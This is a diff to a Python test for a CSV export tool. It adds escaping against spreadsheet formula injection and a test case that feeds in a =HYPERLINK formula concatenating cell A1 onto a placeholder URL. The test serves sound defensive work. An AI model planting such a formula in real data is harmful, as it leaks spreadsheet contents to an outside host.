@@ -10,6 +10,7 @@ Also the default columns, --fields order, and that some field really needed
 quoting (so the test can fail on a writer that never quotes).
 """
 import csv
+import re
 import io
 import json
 import os
@@ -60,6 +61,8 @@ def main():
                 "story": o["story"], "ruleset_version": o["ruleset_version"], "also": "",
             }
             for f, v in want.items():
+                if v and v[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", v):
+                    v = "'" + v  # a formula a spreadsheet would run is written as text
                 if got[f] != v:
                     failures.append(f"{o['key']} {f}: csv {got[f]!r} != json {v!r}")
             if not got["local_time"].endswith("+00:00") or got["local_time"][:10] != o["time"][:10]:
@@ -75,6 +78,19 @@ def main():
             run([binary, "query", "--db", db, "--csv", "--limit", "2", "--fields", "title,key"]).decode(), newline="")))
         if picked[0] != ["title", "key"] or picked[1][1] != objs[0]["key"]:
             failures.append(f"--fields title,key gave {picked[:2]}")
+        # A title a spreadsheet would run as a formula is written as text;
+        # a plain number is not touched.
+        item = {"id": 990001, "ctime": 1780000000, "title": "=HYPERLINK(\"http://x/\"&A1,\"深圳\")",
+                "content": "-5.5"}
+        inp = os.path.join(tmp, "formula.jsonl")
+        with open(inp, "w", encoding="utf-8") as f:
+            f.write(json.dumps(item, ensure_ascii=False) + "\n")
+        fdb = os.path.join(tmp, "formula-db")
+        run([binary, "run", "-q", "--source", inp, "--format", "cls", "--rules", f"{src}/rules/sets", "--db", fdb])
+        frow = list(csv.reader(io.StringIO(run([binary, "query", "--db", fdb, "--csv", "--fields", "title,body"]).decode(),
+                                           newline="")))[1]
+        if frow != ["'" + item["title"], "-5.5"]:
+            failures.append(f"a formula title / a number body in CSV: {frow}")
         if failures:
             print("\n".join(failures[:30]))
             sys.exit(f"FAIL: {len(failures)} differences")
